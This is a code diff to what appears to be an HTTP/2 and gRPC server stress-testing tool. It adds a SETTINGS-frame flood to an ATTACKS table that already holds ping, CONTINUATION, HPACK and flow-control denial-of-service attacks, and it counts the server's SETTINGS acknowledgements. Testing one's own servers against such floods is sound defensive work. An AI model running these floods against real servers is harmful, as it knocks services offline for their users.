@@ -98,6 +98,7 @@ class Answer:
     goaway: list[str] = field(default_factory=list)
     resets: dict[str, int] = field(default_factory=dict)
     pings: int = 0
+    settings_acks: int = 0
     headers_frames: list[int] = field(default_factory=list)
     statuses: dict[str, int] = field(default_factory=dict)
     closed: bool = False
@@ -108,6 +109,8 @@ class Answer:
         parts += [f"grpc-status {status} x{count}" for status, count in sorted(self.statuses.items())]
         if self.pings:
             parts.append(f"{self.pings} PING ACKs")
+        if self.settings_acks:
+            parts.append(f"{self.settings_acks} SETTINGS ACKs")
         if self.closed:
             parts.append("closed")
         return ", ".join(parts) or "nothing"
@@ -180,7 +183,9 @@ class RawConnection:
                     start = found + len(b"grpc-status") + 1
                     status = GRPC_STATUS_NAMES.get(payload[start : start + payload[start - 1]], "?")
                     self.answer.statuses[status] = self.answer.statuses.get(status, 0) + 1
-            elif kind == SETTINGS and not flags & 1 and select.select([], [self.sock], [], 0)[1]:
+            elif kind == SETTINGS and flags & 1:
+                self.answer.settings_acks += 1
+            elif kind == SETTINGS and select.select([], [self.sock], [], 0)[1]:
                 # Acknowledged when that cannot block (a flood may have filled the send buffer).
                 self.send(frame(SETTINGS, 1, 0))
         del buffer[:offset]
@@ -257,11 +262,11 @@ def hpack_memo(port: int, connections: int = 8, blocks: int = 300, size: int = 6
     return held[0] if len(set(held)) == 1 else "; ".join(held)
 
 
-def ping_flood(port: int, seconds: float = 5.0, budget: int = 200 << 20) -> str:
+def ping_flood(port: int, seconds: float = 5.0, budget: int = 200 << 20, flood: bytes = b"") -> str:
     """PINGs as fast as the socket takes them, never reading the ACKs."""
     connection = RawConnection(port, receive_buffer=4096)
     connection.sock.setblocking(False)
-    pings = frame(PING, 0, 0, b"12345678") * 4096
+    pings = (flood or frame(PING, 0, 0, b"12345678")) * 4096
     sent = 0
     stalled_since: float | None = None
     deadline = time.monotonic() + seconds
@@ -285,7 +290,13 @@ def ping_flood(port: int, seconds: float = 5.0, budget: int = 200 << 20) -> str:
     answer = connection.read(3.0)
     connection.close()
     stopped = "server stopped reading" if stalled_since else "server kept reading"
-    return f"{sent >> 20} MiB of PINGs sent, {stopped}; then {answer.summary()}"
+    kind = "SETTINGS" if flood else "PINGs"
+    return f"{sent >> 20} MiB of {kind} sent, {stopped}; then {answer.summary()}"
+
+
+def settings_flood(port: int) -> str:
+    """SETTINGS frames (each one acknowledged) as fast as the socket takes them, never reading."""
+    return ping_flood(port, flood=frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64"))
 
 
 def flow_control(port: int, streams: int = 40, message: int = 25 << 20) -> str:
@@ -332,6 +343,7 @@ ATTACKS: dict[str, Callable[[int], str]] = {
     "continuation-flood": continuation_flood,
     "hpack-memo": hpack_memo,
     "ping-flood": ping_flood,
+    "settings-flood": settings_flood,
     "flow-control": flow_control,
     "long-grpc-message": long_status_message,
 }
